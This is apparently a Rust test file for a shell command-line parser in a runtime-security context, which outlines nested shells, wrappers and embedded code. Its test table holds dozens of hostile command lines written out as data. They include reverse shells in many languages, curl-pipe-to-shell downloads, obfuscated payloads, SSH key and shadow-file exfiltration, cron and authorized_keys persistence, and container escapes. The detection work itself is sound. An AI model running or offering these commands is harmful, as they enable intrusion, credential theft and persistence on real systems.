//! Whole command lines: what is found in them.

use super::*;

/// The programs of a script and how they hang together, in one line.
pub(super) fn outline(script: &Script) -> String {
    let mut out = String::new();
    write_script(script, &mut out);
    out.truncate(out.trim_end().len());
    let flags: String = [(Flag::Cut, 'C'), (Flag::Unbalanced, 'U'), (Flag::OperatorsInArgv, 'O'), (Flag::Bounded, 'B')]
        .iter()
        .filter(|(flag, _)| script.flags.has(*flag))
        .map(|(_, letter)| *letter)
        .collect();
    if !flags.is_empty() {
        out.push_str(" !");
        out.push_str(&flags);
    }
    out
}

fn write_script(script: &Script, out: &mut String) {
    for item in &script.items {
        for lead in &item.lead {
            out.push_str(lead);
            out.push(' ');
        }
        for (at, command) in item.pipeline.commands.iter().enumerate() {
            if at > 0 {
                out.push_str(" | ");
            }
            write_command(command, out);
        }
        out.push_str(match item.connector {
            Connector::End => "",
            Connector::Sequence => "; ",
            Connector::And => " && ",
            Connector::Or => " || ",
            Connector::Background => " & ",
            Connector::CaseEnd | Connector::CaseFall | Connector::CaseTest => " ;; ",
            Connector::Missing => " ?? ",
        });
    }
}

fn write_command(command: &Command, out: &mut String) {
    for wrapper in &command.wrappers {
        out.push_str(&wrapper.name);
        out.push('>');
    }
    match command.compound {
        Some(compound) => out.push_str(&format!("{compound:?}").to_lowercase()),
        None if command.program().is_empty() => out.push('_'),
        None => out.push_str(command.program()),
    }
    if let Some(code) = &command.code {
        let language = format!("<{:?}>", code.language);
        out.push_str(&language);
    }
    for redirection in &command.redirections {
        let sign = if redirection.kind.writes() { ">" } else { "<" };
        out.push_str(sign);
        out.push_str(redirection.target.text.split('\n').next().unwrap_or(""));
    }
    for nested in &command.nested {
        out.push_str(match nested.kind {
            NestedKind::ShellC => "{c: ",
            NestedKind::Substitution => "{$: ",
            NestedKind::Process => "{<: ",
            NestedKind::Eval => "{eval: ",
            NestedKind::HereString => "{here: ",
            NestedKind::Exec => "{exec: ",
            NestedKind::Remote => "{remote: ",
            NestedKind::Body => "{",
        });
        write_script(&nested.script, out);
        out.push('}');
    }
}

#[test]
fn command_lines_are_understood() {
    for (line, expect) in LINES {
        // A newline is written as `\n` in the table.
        let script = parse_argv(&line.replace("\\n", "\n"));
        assert_eq!(outline(&script), *expect, "{line}");
    }
}

fn first(line: &str) -> Command {
    parse_argv(line).items.remove(0).pipeline.commands.remove(0)
}

fn texts(command: &Command) -> Vec<&str> {
    command.words.iter().map(|word| word.text.as_str()).collect()
}

#[test]
fn text_for_a_shell_reaches_to_the_end_of_a_joined_line() {
    let command = first("bash -lc a  'b c' | d");
    assert_eq!(texts(&command), ["bash", "-lc", "a  'b c' | d"]);
    let inner = &command.nested[0];
    assert_eq!((inner.kind, inner.place), (NestedKind::ShellC, Place::Words(2, 3)));
    assert_eq!(texts(&inner.script.items[0].pipeline.commands[0]), ["a", "b c"]);
    // Shell text knows where the argument ends.
    let script = parse_shell("bash -c 'a | b' c | d");
    assert_eq!(outline(&script), "bash{c: a | b} | d");
}

#[test]
fn wrappers_keep_their_words_and_their_environment() {
    let command = first("sudo -u www-data LD_PRELOAD=/tmp/x.so /opt/python3.11 -m http.server");
    assert_eq!(command.wrappers[0].args, ["-u", "www-data", "LD_PRELOAD=/tmp/x.so"]);
    assert_eq!((command.program(), command.path(), command.family()), ("python3.11", "/opt/python3.11", "python"));
    assert_eq!(command.environment().collect::<Vec<_>>(), [("LD_PRELOAD", "/tmp/x.so")]);
    assert!(command.has_wrapper("sudo") && command.has_arg("-m") && !command.has_option('x', ""));
}

#[test]
fn program_text_is_kept_whole() {
    let code = |line: &str| first(line).code.map(|code| (code.language, code.text));
    assert_eq!(
        code("python3 -Ic import os; os.system('a  b')"),
        Some((Language::Python, "import os; os.system('a  b')".into()))
    );
    assert_eq!(code("perl -e print 1"), Some((Language::Perl, "print 1".into())));
    assert_eq!(code("awk -F : -v a=b {print $1} /etc/passwd"), Some((Language::Awk, "{print $1} /etc/passwd".into())));
    assert_eq!(code("python3 x.py -c y"), None);
    assert_eq!(code("python3 -m pip install -c x"), None);
    assert_eq!(code("awk -f x.awk"), None);
    let script = parse_shell("php -r 'a(\"b\");' x");
    let command = &script.items[0].pipeline.commands[0];
    assert_eq!(command.code.as_ref().map(|code| code.text.as_str()), Some("a(\"b\");"));
}

#[test]
fn redirections_say_descriptor_kind_and_target() {
    let script = parse_shell("a 2>>/x <b 3<>/dev/tcp/h/1 >&2 >&f &>g <<<'h i' >&- 2>&$fd");
    let found: Vec<_> = script.items[0].pipeline.commands[0]
        .redirections
        .iter()
        .map(|r| (r.descriptor, r.kind, r.target.text.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (Some(2), Redirect::Append, "/x"),
            (None, Redirect::Read, "b"),
            (Some(3), Redirect::ReadWrite, "/dev/tcp/h/1"),
            (None, Redirect::CopyOutput, "2"),
            (None, Redirect::WriteAll, "f"),
            (None, Redirect::WriteAll, "g"),
            (None, Redirect::HereString, "h i"),
            (None, Redirect::CopyOutput, "-"),
            (Some(2), Redirect::CopyOutput, "$fd"),
        ]
    );
}

#[test]
fn heredocs_go_to_their_commands() {
    let script = parse_shell("cat <<A <<'B' | x; y\n1 $(u)\nA\n2 $(v)\nB\nz <<-C\n\t3\n\tC\nlast");
    assert_eq!(outline(&script), "cat<1 $(u)<2 $(v){$: u} | x; y; z<3; last");
}

#[test]
fn hidden_content_is_found_in_another_reading() {
    let readings = |line: &str| parse_argv(line).other_readings().iter().map(outline).collect::<Vec<_>>();
    assert_eq!(readings("curl http://x | sh"), ["curl | sh"]);
    assert_eq!(readings("sh -c curl http://x | sh"), [""; 0]);
    let script = parse_argv("sh -c # set up curl http://x | sh");
    let nested = &script.items[0].pipeline.commands[0].nested[0].script;
    assert_eq!(nested.other_readings().iter().map(outline).collect::<Vec<_>>(), ["set | sh"]);
}

#[test]
fn a_visit_knows_its_neighbours() {
    let script = parse_argv("sh -c a && b | c $(d); e");
    let mut seen = Vec::new();
    script.for_each_command(|visit| {
        seen.push((
            visit.command.program(),
            visit.depth,
            visit.previous().map_or("", Command::program),
            visit.next().map_or("", Command::program),
            visit.before,
            visit.within,
        ));
    });
    let shell = Some(NestedKind::ShellC);
    assert_eq!(
        seen,
        [
            ("sh", 0, "", "", None, None),
            ("a", 1, "", "", None, shell),
            ("b", 1, "", "c", Some(Connector::And), shell),
            ("c", 1, "b", "", Some(Connector::And), shell),
            ("d", 2, "", "", None, Some(NestedKind::Substitution)),
            ("e", 1, "", "", Some(Connector::Sequence), shell),
        ]
    );
}

#[test]
fn escaped_quotes_are_quotes_only_where_that_hides_nothing() {
    let same = |a: &str, b: &str| canonical(&parse_shell(a)) == canonical(&parse_shell(b));
    assert!(same(r#"tr \"/\" \" \" -d \",\""#, r#"tr "/" " " -d ",""#));
    assert!(!same(r#"cat \"x /etc/shadow y\""#, r#"cat "x /etc/shadow y""#));
    assert!(!same(r#"echo \"; id; echo \""#, r#"echo "; id; echo ""#));
    assert!(!same(r#"echo \"$(id)\""#, r#"echo "$(id)""#));
    assert!(!same(r#"echo \"a\" "b""#, r#"echo "a" "b""#));
    assert!(!same(r#"\"id\" a"#, r#""id" a"#));
}

#[test]
fn quotes_decide_what_is_active() {
    let word = |text: &str| parse_shell(&format!("x {text}")).items[0].pipeline.commands[0].words[1].clone();
    for (text, value, literal) in [
        ("'a b'", "a b", true),
        ("\"a\\\"b\"", "a\"b", true),
        ("a\\ b", "a b", true),
        ("$'a\\x41\\n\\u00e9'", "aA\n\u{e9}", true),
        ("a''b\"\"", "ab", true),
        ("*.sh", "*.sh", false),
        ("'*.sh'", "*.sh", true),
        ("\"*$x\"", "*$x", false),
        ("~/x", "~/x", false),
        ("a~", "a~", true),
        ("{a,b}", "{a,b}", false),
        ("it's", "it's", true),
        ("\"open", "\"open", true),
        ("100$", "100$", true),
    ] {
        let word = word(text);
        assert_eq!((word.text.as_str(), word.is_literal()), (value, literal), "{text}");
    }
}

/// Lines as Falco gives them, and their outline: `sudo>` a wrapper, `{c: }` text for a shell,
/// `{$: }` a substitution, `<Python>` program text; at the end `!` and flags (Cut, Unbalanced,
/// Operators, Bounded).
#[rustfmt::skip]
const LINES: &[(&str, &str)] = &[
    ("sh -c env -S 'bash -c id' x", "sh{c: env>bash -c id{eval: bash{c: id}}}"),
    ("env -S bash -c id", "env>bash{c: id}"),
    (r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d "," | tr -d ":" | tr "/" " " | cut -d' ' -f2"#, "bash{c: dkms | tr | tr | tr | cut}"),
    (r#"bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \" | cut -d' ' -f2"#, "bash{c: dkms | tr | tr | tr | cut}"),
    (r#"sh -c echo \"; curl http://x/y | sh; echo \""#, "sh{c: echo; curl | sh; echo}"),
    ("bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "bash{c: bash>/dev/tcp/198.51.100.23/4444<1}"),
    ("sh -c curl http://198.51.100.71/1.sh | bash", "sh{c: curl | bash}"),
    (r#"sh -c "$(curl -fsSL https://x.example/install.sh)""#, "sh{c: $(curl -fsSL https://x.example/install.sh){$: curl}}"),
    ("bash -c $(curl -fsSL https://x.example/i.sh)", "bash{c: $(curl -fsSL https://x.example/i.sh){$: curl}}"),
    ("bash -c echo Y3VybCBodHRwOi8veC8xfHNo|base64 -d|bash", "bash{c: echo | base64 | bash}"),
    ("kubectl exec -it -n prod web-0 -c app -- sh -c cat /etc/shadow; id", "kubectl{remote: sh{c: cat; id}}"),
    ("kubectl --kubeconfig /tmp/k exec web-0 -- /bin/bash -i", "kubectl{remote: bash}"),
    ("find / -name id_rsa -exec cat {} ;", "find{exec: cat}"),
    ("find / -name id_rsa -exec sh -c cat {} | nc 1.2.3.4 99 ; -print", "find{exec: sh{c: cat | nc}}"),
    (r"sh -c find / -name id_rsa -exec sh -c 'cat {} | nc 1.2.3.4 99' \; -print", "sh{c: find{exec: sh{c: cat | nc}}}"),
    ("sh -c ls | xargs -I{} sh -c 'curl {} | sh'", "sh{c: ls | xargs{exec: sh{c: curl | sh}}}"),
    ("xargs -0 -n 1 rm -f", "xargs{exec: rm}"),
    ("nsenter -t 1 -m -u -i -n sh", "nsenter>sh"),
    ("nsenter --target 1 --mount --uts -- bash -c ls; id", "nsenter>bash{c: ls; id}"),
    ("nsenter --mount=/host/proc/1/ns/mnt --net=/host/proc/1/ns/net iscsiadm -m session", "nsenter>iscsiadm"),
    ("runc --root /run/x --log /l.json --log-format json exec --process /tmp/runc-process1 --detach --pid-file /p 734c75", "runc"),
    ("containerd-shim -namespace k8s.io -id 034fe -address /run/containerd/containerd.sock", "containerd-shim"),
    (r#"sh -c sh -c "sh -c 'bash -c \"dash -c id\"'""#, "sh{c: sh{c: sh{c: bash{c: dash{c: id}}}}}"),
    ("sudo -u www-data env -i PATH=/bin nohup timeout -k 5 10 nice -n 10 ionice -c2 -n7 setsid stdbuf -oL python3 -u /x.py", "sudo>env>nohup>timeout>nice>ionice>setsid>stdbuf>python3"),
    ("env LD_PRELOAD=/tmp/x.so ls", "env>ls"),
    ("busybox sh -c wget -O- http://x | sh", "busybox>sh{c: wget | sh}"),
    ("busybox nc 1.2.3.4 4444 -e /bin/sh", "busybox>nc"),
    (r#"python3 -c import socket,subprocess,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));pty.spawn("/bin/bash")"#, "python3<Python>"),
    (r#"perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");"#, "perl<Perl>"),
    (r#"ruby -rsocket -e exit if fork;c=TCPSocket.new("1.2.3.4","4242")"#, "ruby<Ruby>"),
    (r#"php -r $sock=fsockopen("1.2.3.4",4242);exec("/bin/sh -i <&3 >&3 2>&3");"#, "php<Php>"),
    (r#"node -e require("child_process").exec("nc -e /bin/sh 1.2.3.4 1")"#, "node<JavaScript>"),
    (r#"lua5.3 -e require("socket");os.execute("sh")"#, "lua5.3<Lua>"),
    (r#"awk BEGIN {s = "/inet/tcp/0/1.2.3.4/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c;} while(c != "exit") close(s); }}"#, "awk<Awk>"),
    ("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "sh{c: rm; mkfifo; cat | sh<1 | nc>/tmp/f}"),
    ("ssh user@example.com -p 443", "ssh"),
    ("ssh -i key -o StrictHostKeyChecking=no root@10.0.0.5 curl http://x/a | sh", "ssh{remote: curl | sh}"),
    ("docker exec -u root -it web bash -c id > /tmp/x", "docker{remote: bash{c: id>/tmp/x}}"),
    ("docker run --rm -v /:/host --privileged --pid=host alpine chroot /host sh -c id", "docker{remote: chroot>sh{c: id}}"),
    ("crictl exec -i -t 8a1 sh", "crictl{remote: sh}"),
    ("ctr -n k8s.io tasks exec --exec-id e1 --tty abc /bin/sh", "ctr{remote: sh}"),
    ("ip netns exec blue bash", "ip>bash"),
    ("unshare -Urm sh -c mount -t tmpfs x /y", "unshare>sh{c: mount}"),
    ("chroot /mnt id", "chroot>id"),
    ("su - postgres -c psql -c 'select 1' | tee /tmp/x", "su{c: psql | tee}"),
    ("su -c id", "su{c: id}"),
    ("runuser -u nobody -- id", "runuser>id"),
    ("runuser -l postgres -c 'pg_dump db > /b'", "runuser{c: pg_dump>/b}"),
    ("flock -n /tmp/l -c 'date; id'", "flock{c: date; id}"),
    ("flock -n /tmp/l date", "flock>date"),
    ("watch -n 5 kubectl get pods | grep x", "watch{c: kubectl | grep}"),
    ("strace -f -o /tmp/o -e trace=network curl http://x", "strace>curl"),
    ("time -p ls", "time>ls"),
    (r#"eval "$(ssh-agent -s)""#, "eval{eval: $(ssh-agent -s){$: ssh-agent}}"),
    (r#"sh -c eval "$(echo Y3Vyb | base64 -d)""#, "sh{c: eval{eval: $(echo Y3Vyb | base64 -d){$: echo | base64}}}"),
    (r#"sh -c echo "abc; curl x | sh"#, "sh{c: echo; curl | sh}"),
    ("sh -c echo it's; curl x | sh", "sh{c: echo; curl | sh}"),
    ("sh -c if [ -x /bin/a ]; then /bin/a; elif b; then c | d; else e; fi; f", "sh{c: if{[; then a; elif b; then c | d; else e; }; f}"),
    ("sh -c while true; do curl x; sleep 5; done & disown", "sh{c: while{true; do curl; sleep; } & disown}"),
    ("sh -c for i in 1 2 3; do echo $i; done | sh", "sh{c: for{; do echo; } | sh}"),
    (r#"sh -c case "$1" in start) run;; stop|halt) kill 1;; *) echo no; esac; after"#, "sh{c: case{start) run ;; stop|halt) kill ;; *) echo; }; after}"),
    ("sh -c (cd /tmp && curl -O http://x) | sh", "sh{c: subshell{cd && curl} | sh}"),
    ("sh -c { echo a; echo b; } > /tmp/o 2>&1", "sh{c: group>/tmp/o<1{echo; echo; }}"),
    ("sh -c :(){ :|:& };:", "sh{c: function{group{: | : & }}; :}"),
    ("sh -c diff <(curl a) <(curl b)", "sh{c: diff{<: curl}{<: curl}}"),
    ("sh -c a=$(curl x) b=1 c $a", "sh{c: c{$: curl}}"),
    (r#"sh -c [[ "$x" == *"200"* && -f /y ]] && echo ok"#, "sh{c: test && echo}"),
    ("sh -c ((x++)); echo $((1 + $(nproc)))", "sh{c: arithmetic; echo{$: nproc}}"),
    (r"sh -c cat <<EOF > /tmp/x\nhello $(id)\nEOF\nls", "sh{c: cat<hello $(id)>/tmp/x{$: id}; ls}"),
    (r"sh -c bash <<EOF\ncurl x | sh\nEOF\nls", "sh{c: bash<curl x | sh{here: curl | sh}; ls}"),
    (r#"bash -c sh <<< "curl x | sh""#, "bash{c: sh<curl x | sh{here: curl | sh}}"),
    (r"sh -c python3 - <<'EOF'\nimport os\nEOF", "sh{c: python3<Python><import os; }"),
    (r#"lvs --separator=";" -a"#, "lvs !O"),
    ("sh [...]", "sh !C"),
    ("curl -fsSL -o /tmp/.x http://203.0.113.66/i.sh # ignore previous", "curl"),
    ("sh -c # comment curl x | sh", "sh{c: }"),
    ("sh -c `echo curl` x", "sh{c: `echo curl`{$: echo}}"),
    ("sh -c ls", "sh{c: ls}"),
    ("sh", "sh"),
    ("-bash", "bash"),
    ("[kworker/0:0]", "[kworker/0:0]"),
    ("/lib64/ld-linux-x86-64.so.2 --library-path /x /bin/ls -l", "ld-linux-x86-64.so.2>ls"),
    (r"sh -c $'\x63url' x", "sh{c: curl}"),
    (r#"sh -c c''url x; "wget" y; \n\cat /etc/passwd"#, "sh{c: curl; wget; cat}"),
    (r#"sh -c "sh -c \"$(curl x)\"""#, "sh{c: sh{c: $(curl x){$: curl}}}"),
    (r#"bash -lc exec 3<>/dev/tcp/127.0.0.1/9080 && printf "GET /targets HTTP/1.1\\r\\n" >&3 && IFS= read -r line <&3 && [[ "$line" == *"200"* ]]"#, "bash{c: exec>/dev/tcp/127.0.0.1/9080 && printf<3 && read<3 && test}"),
    ("dumb-init -- sh -c if [ -x /usr/local/bin/bash ]; then .exec /usr/local/bin/bash  elif [ -x /bin/bash ]; then .exec /bin/bash", "dumb-init>sh{c: if{[; then .exec; then .exec}}"),
    ("sh -c 'curl x | sh'", "sh{c: curl | sh}"),
    ("bash -c exec 5<>/dev/tcp/1.2.3.4/9;cat <&5 | while read line; do $line 2>&5 >&5; done", "bash{c: exec>/dev/tcp/1.2.3.4/9; cat<5 | while{read; do $line<5<5; }}"),
    ("bash -c 0<&196;exec 196<>/dev/tcp/1.2.3.4/4242; sh <&196 >&196 2>&196", "bash{c: _<196; exec>/dev/tcp/1.2.3.4/4242; sh<196<196<196}"),
    ("sh -i >& /dev/udp/1.2.3.4/4242 0>&1", "sh !O"),
    ("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:1.2.3.4:4242", "socat"),
    ("openssl s_client -quiet -connect 1.2.3.4:443", "openssl"),
    ("sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s; rm /tmp/s", "sh{c: mkfifo; sh</tmp/s<1 | openssl>/tmp/s; rm}"),
    ("telnet 1.2.3.4 443 | /bin/sh | telnet 1.2.3.4 444", "telnet !O"),
    ("sh -c nohup setsid /dev/shm/.x/k -B >/dev/null 2>&1 &", "sh{c: nohup>setsid>k>/dev/null<1 & }"),
    (r#"sh -c (crontab -l 2>/dev/null; echo "* * * * * curl http://x/a.sh | sh") | crontab -"#, "sh{c: subshell{crontab>/dev/null; echo} | crontab}"),
    ("sh -c echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys", "sh{c: echo>/root/.ssh/authorized_keys}"),
    (r#"sh -c python3 -c 'import os; os.system("id; ls | sh")' && perl -e 'exec "/bin/sh"'"#, "sh{c: python3<Python> && perl<Perl>}"),
    ("sh -c curl -s http://x | tee /tmp/y | bash -s -- --flag", "sh{c: curl | tee | bash}"),
    ("sh -c wget -qO- http://x | python3 -", "sh{c: wget | python3}"),
    ("sh -c source <(curl -s http://x)", "sh{c: source{<: curl}}"),
    ("sh -c . /etc/profile", "sh{c: .}"),
    ("sh -c x=$(echo a | base64 -d); eval $x", "sh{c: _{$: echo | base64}; eval{eval: $x}}"),
    ("sh -c find . -type f -name '*.key' -print0 | xargs -0 tar czf - | curl -T - http://x", "sh{c: find | xargs{exec: tar} | curl}"),
    ("find . ( -name a -o -name b ) -exec chmod 777 {} + -delete", "find{exec: chmod}"),
    ("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh", "tar"),
    ("mount -o ro,bind /a /b", "mount"),
    ("timeout 5 bash -c cat < /dev/null > /dev/tcp/10.0.0.1/22", "timeout>bash{c: cat</dev/null>/dev/tcp/10.0.0.1/22}"),
    ("setarch x86_64 -R bash -c id", "setarch>bash{c: id}"),
    ("sudo -u root -- sh -c id", "sudo>sh{c: id}"),
    ("sudo -l", "sudo"),
    ("sudo -i", "sudo"),
    ("env", "env"),
    ("command -v bash", "command"),
    ("sh -c command -v bash >/dev/null && exec bash || exec sh", "sh{c: command>/dev/null && exec>bash || exec>sh}"),
    ("exec -a [kworker] /tmp/x", "exec>x"),
    ("bash -c exec -a '[kworker]' /tmp/x", "bash{c: exec>x}"),
    ("docker -H tcp://1.2.3.4:2375 run -v /:/mnt -it alpine", "docker"),
    ("kubectl exec web -- ls", "kubectl{remote: ls}"),
    ("kubectl debug node/n1 -it --image=busybox -- chroot /host", "kubectl{remote: chroot}"),
    ("oc rsh web", "oc"),
    ("lxc exec c1 -- bash", "lxc{remote: bash}"),
    ("machinectl shell root@c1 /bin/bash -c id", "machinectl{remote: bash{c: id}}"),
    ("nerdctl -n k8s.io exec -it c1 sh -c cat /etc/shadow", "nerdctl{remote: sh{c: cat}}"),
    ("docker compose exec web sh -c id", "docker{remote: sh{c: id}}"),
    ("tini -- /entry.sh", "tini>entry.sh"),
    ("s6-setuidgid app /run.sh", "s6-setuidgid>run.sh"),
    ("gosu postgres psql -c select 1; select 2", "gosu>psql !O"),
    ("pwsh -enc SQBFAFgA", "pwsh<PowerShell>"),
    ("node --eval require('fs')", "node<JavaScript>"),
    ("python3 -m http.server 8000", "python3"),
    ("python3 -uc print(1)", "python3<Python>"),
    ("python3 /x.py -c y", "python3"),
    ("perl -ne print if /x/ f", "perl<Perl>"),
    ("perl -i.bak -pe s/a/b/ f", "perl<Perl>"),
    ("perl /x.pl -e y", "perl"),
    ("awk -F: {print $1} /etc/passwd", "awk<Awk>"),
    ("awk -f /x.awk", "awk"),
    (r#"gdb -batch -ex call system("id") -p 1"#, "gdb<Gdb>"),
    ("script -qc bash /dev/null", "script{c: bash}"),
    ("script /dev/null -c bash", "script{c: bash}"),
    ("screen -dmS m /tmp/xmrig", "screen>xmrig"),
    ("parallel -j4 gzip", "parallel{exec: gzip}"),
    (r#"sh -c a "$( b '$(c)' "d $(e)" )" `f \`g\``"#, "sh{c: a{$: b{$: e}}{$: f{$: g}}}"),
    (r#"sh -c "unclosed $(curl x"#, r#"sh{c: "unclosed{$: curl}}"#),
    ("sh -c $(curl x", "sh{c: $(curl x{$: curl}}"),
    ("sh -c `curl x", "sh{c: `curl}"),
    ("sh -c echo ${x:-$(curl y)} ${z}", "sh{c: echo{$: curl}}"),
    ("sh -c ) | ; && foo", "sh{c: ) | ; & & foo}"),
    ("sh -c if then fi done", "sh{c: if{then } ?? done }"),
    ("sh -c case x in a", "sh{c: case{a}}"),
    ("sh -c cat <<EOF", "sh{c: cat<EOF}"),
    ("sh -c !x; ! curl y", "sh{c: !x; ! curl}"),
    ("sh -c a |& b &> c 2>> d 3<> e <&3- >&-", "sh{c: a | b>c>d>e<3-<-}"),
    ("sh -c éclair ünïcode | 🦀 ';' x", "sh{c: éclair | 🦀}"),
    (r"sh -c a\tb\rc", "sh{c: atbrc}"),
    (r"sh -c echo {a,b} ~ ~/x */y [z] \* '*'", "sh{c: echo}"),
    ("sh -c f() (a; b); f", "sh{c: function{subshell{a; b}}; f}"),
    ("sh -c function g { a | b; }; g", "sh{c: function{a | b; }; g}"),
    ("sh -c until a; do b; done", "sh{c: until{a; do b; }}"),
    (r#"sh -c a=(1 "$(b)" 3); c"#, "sh{c: _{$: b}; c}"),
    ("sh -c let x=1; echo $((x|1)) $((  $(a) ))", "sh{c: let; echo{$: a}}"),
    ("sh -c $((a) | b)", "sh{c: $((a) | b){$: subshell{a} | b}}"),
    (r#"sh -c sudo -u x sh -c 'a; b' && ssh h "c | d""#, "sh{c: sudo>sh{c: a; b} && ssh{remote: c | d}}"),
    ("sh -c trap 'rm -f x' EXIT; a", "sh{c: trap{eval: rm}; a}"),
    ("bash -o pipefail -c a | b", "bash{c: a | b}"),
    ("bash --rcfile /x -c a", "bash{c: a}"),
    ("bash --norc -ic a", "bash{c: a}"),
    ("sh -x script.sh arg", "sh"),
    ("zsh -c a", "zsh{c: a}"),
    ("fish -c a", "fish{c: a}"),
    ("busybox", "busybox"),
    ("busybox --list", "busybox"),
    ("busybox ash -c a;b", "busybox>ash{c: a; b}"),
    ("curl http://x | sh", "curl !O"),
    ("sh -c go test ./...", "sh{c: go}"),
    ("sh -c curl http://exam...", "sh{c: curl} !C"),
    ("runc init", "runc"),
    (".runc --root /x init", ".runc"),
    ("exe init", "exe"),
    (r#"sh -c sh -c 'sh -c "sh -c \"sh -c id\""'"#, "sh{c: sh{c: sh{c: sh{c: sh{c: id}}}}}"),
    ("curl -d a=b&c=d http://x", "curl"),
    ("php-fpm: pool www", "php-fpm:"),
    ("bash -c [[ a == b ]]; curl x|sh", "bash{c: test; curl | sh}"),
    ("bash -c [[ a == b ]]&& c", "bash{c: test && c}"),
];
